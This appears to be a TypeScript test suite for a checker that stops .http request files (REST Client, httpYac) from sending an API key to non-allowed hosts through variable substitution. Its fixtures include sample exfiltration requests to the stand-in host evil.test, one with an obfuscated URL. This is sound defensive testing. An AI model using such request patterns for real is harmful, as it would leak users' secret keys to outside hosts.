import assert from 'node:assert/strict';
import { checkFile } from '../../src/requestFiles/hostCheck';
import { formatVariableReference, getVariableName } from '../../src/requestFiles/keyReferences';
import { findRequestUses } from '../../src/requestFiles/requestUses';
import { allowOrigins } from '../support/hostChecks';
import { createSourceToken } from '../support/sourceTokens';

const FILE = 'file:///requests.http';
const TOKEN = createSourceToken();
const VARIABLE = getVariableName(TOKEN.token.id);
const REFERENCE = formatVariableReference(TOKEN.token.id);
const KEY = `@key = ${REFERENCE}`;
const ALLOWED_REQUEST = 'GET https://good.test/\nAuthorization: ApiKey {{key}}';
const CONTEXT = { ...allowOrigins(['https://good.test'], TOKEN.token.id), clients: ['restClient'] as const };

function check(lines: readonly string[], context: Parameters<typeof checkFile>[4] = CONTEXT): string | undefined {
	const { requests } = findRequestUses(lines.join('\n'), 'requestFile');
	return checkFile(requests, TOKEN, new Map([[VARIABLE, TOKEN]]), FILE, context)?.kind;
}

/** REST Client replaces the names of file variables in the values that it inserted into other file variables. */
describe('a value that only REST Client knows can’t make it send a key to another host', () => {
	const values: Record<string, string> = {
		'of a .env file': '{{$dotenv X}}',
		'of a setting': '{{x}}',
		'of a response': '{{login.response.body.x}}',
		'of the environment, which a container can define': '{{$processEnv X}}',
		'that completes a name': '{{$dotenv X}}key}}',
		'of a date, whose format is any text': '{{$datetime "{"}}{key}}',
	};
	for (const [title, value] of Object.entries(values)) {
		it(title, () => {
			assert.equal(check([`@a = ${value}`, KEY, ALLOWED_REQUEST, '###', 'GET https://evil.test/?a={{a}}']), 'unknown');
			assert.equal(check([KEY, ALLOWED_REQUEST, '###', `@a = ${value}`, '@b = x{{a}}', 'POST https://evil.test/', '', '{{b}}']), 'unknown');
			assert.equal(check([KEY, ALLOWED_REQUEST, '###', `@a = ${value}`, '@t = t', 'h{{t}}tps://evil.test/?a={{a}}']), 'unknown');
		});
	}

	it('by the name of a setting that contains the name of the environment variable', () => {
		const lines = ['@a = {{$processEnv %x}}', `GET https://good.test/?k=${REFERENCE}`, '###', 'GET https://evil.test/?a={{a}}'];
		assert.equal(check(lines), 'foreign');
	});

	it('by a value that makes a line insert a file with references', () => {
		const lines = ['@a = <@ ./body.txt', `GET https://good.test/?k=${REFERENCE}`, '###', 'POST https://evil.test/', '', '{{a}}'];
		assert.equal(check(lines), 'foreign');
	});

	it('unless the user allowed the file', () => {
		const context = { ...CONTEXT, hosts: { workspace: { [TOKEN.token.id]: { origins: ['https://good.test'], files: [FILE] } } } };
		assert.equal(check(['@a = {{$dotenv X}}', KEY, ALLOWED_REQUEST, '###', 'GET https://evil.test/?a={{a}}'], context), 'allowed');
	});

	const harmless: Record<string, readonly string[]> = {
		'is sent to an allowed host': ['@a = {{$dotenv X}}', KEY, ALLOWED_REQUEST, '###', 'GET https://good.test/?a={{a}}'],
		'is sent to an allowed host together with the key': ['@a = {{$dotenv X}}', KEY, `${ALLOWED_REQUEST}\nX: {{a}}`],
		'isn’t inserted into a variable': [KEY, ALLOWED_REQUEST, '###', 'GET https://evil.test/?a={{$dotenv X}}'],
		'can’t name a variable that stands for a key': [
			'@a = {{$dotenv X}}',
			`GET https://good.test/?k=${REFERENCE}`,
			'###',
			'GET https://evil.test/?a={{a}}',
		],
		'isn’t used by the request': ['@a = {{$dotenv X}}', KEY, ALLOWED_REQUEST, '###', 'GET https://evil.test/?b={{b}}'],
		'can’t contain a name': ['@a = {{$guid}}{{$timestamp}}', KEY, ALLOWED_REQUEST, '###', 'GET https://evil.test/?a={{a}}'],
	};
	for (const [title, lines] of Object.entries(harmless)) {
		it(`but nothing changes if it ${title}`, () => {
			assert.equal(check(lines), 'allowed');
		});
	}

	it('but nothing changes if only httpYac is installed, which doesn’t replace names in values', () => {
		const lines = ['@a = {{$dotenv X}}', KEY, ALLOWED_REQUEST, '###', 'GET https://evil.test/?a={{a}}'];
		assert.equal(check(lines, { ...CONTEXT, clients: ['httpYac'] }), 'allowed');
	});
});
